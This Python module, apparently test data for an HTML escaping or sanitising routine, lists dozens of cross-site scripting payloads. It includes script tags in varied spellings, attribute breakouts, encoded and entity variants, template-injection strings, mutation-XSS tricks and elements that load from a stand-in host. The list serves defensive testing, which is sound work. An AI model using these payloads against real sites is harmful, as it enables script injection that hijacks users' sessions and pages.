"""Texts that would run as a program, were they shown as anything but text. In each, ``xss`` marks what would run."""

_HANDLERS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "onpointerenter", "ontoggle", "onanimationstart", "onbegin",
    "onpageshow", "onhashchange", "oncut", "onscroll", "onwheel", "onblur",
)  # fmt: skip
_TAGS = (
    "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe", "object data=x",
    "marquee", "select autofocus", "textarea autofocus", "math", "a href=#", "xss-element tabindex=1",
)  # fmt: skip
_SCHEMES = (
    "javascript:xss()", "JaVaScRiPt:xss()", "java\tscript:xss()", "java\nscript:xss()", " javascript:xss()",
    "javascript&colon;xss()", "&#106;avascript:xss()", "data:text/html,<script>xss()</script>", "vbscript:xss()",
    "javascript://%0Axss()",
)  # fmt: skip

MARKUP = (
    # A script, in many spellings.
    "<script>xss()</script>", "<SCRIPT>xss()</SCRIPT>", "<script >xss()</script >", "<script\n>xss()</script>",
    "<script/x>xss()</script>", "<<script>xss()//<</script>", "<scr<script>ipt>xss()</scr</script>ipt>",
    "<script src=//xss.example></script>", "<script>xss()", "</script><script>xss()</script>", "<!--><script>xss()</script>",
    "--><script>xss()</script>", "]]><script>xss()</script>", "</title><script>xss()</script>",
    "</textarea><script>xss()</script>", "</style><script>xss()</script>", "</option></select><script>xss()</script>",
    "</noscript><script>xss()</script>", "</template><script>xss()</script>", "<svg><script>xss()</script></svg>",
    # An attribute that ends early.
    '"><script>xss()</script>', "'><script>xss()</script>", '" autofocus onfocus="xss()', "' autofocus onfocus='xss()",
    "` autofocus onfocus=`xss()", '" style="background:url(javascript:xss())', '"/onmouseover="xss()', "\" onclick=xss() x=\"",
    "x onmouseover=xss()", '"; xss(); "', "'; xss(); '", "\\'; xss(); //", "\\\"; xss(); //", "</script>\u2028xss()",
    # Entities, which must not be undone twice.
    "&lt;script&gt;xss()&lt;/script&gt;", "&#60;script&#62;xss()&#60;/script&#62;", "&#x3c;script&#x3e;xss()&#x3c;/script&#x3e;",
    "%3Cscript%3Exss()%3C/script%3E", "\\u003cscript\\u003exss()\\u003c/script\\u003e", "\\x3cscript\\x3exss()\\x3c/script\\x3e",
    "+ADw-script+AD4-xss()+ADw-/script+AD4-", "\uff1cscript\uff1exss()\uff1c/script\uff1e",
    # What template languages and scripts of pages would read.
    "{{ xss }}", "{% include xss %}", "{{ constructor.constructor('xss()')() }}", "${xss()}", "#{xss()}", "<%= xss() %>",
    "{# xss #}", "{% load xss %}",
    # Other elements that load or run something.
    "<base href=//xss.example>", "<link rel=stylesheet href=//xss.example>",
    "<meta http-equiv=refresh content=0;url=//xss.example>",
    "<style>@import '//xss.example'</style>", "<form action=//xss.example><button>Go</button></form>",
    "<embed src=//xss.example>", "<portal src=//xss.example>", "<template><b id=xss></b></template>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=xss()>",
    "<noscript><p title=\"</noscript><img src=x onerror=xss()>\">",
    *(f"<{tag} {handler}=xss()>" for tag, handler in zip(_TAGS, _HANDLERS, strict=True)),
    *(f"<a {handler}=xss() href=#>x</a>" for handler in _HANDLERS),
    *(f"<a href=\"{scheme}\">x</a>" for scheme in _SCHEMES),
    *_SCHEMES,
)  # fmt: skip
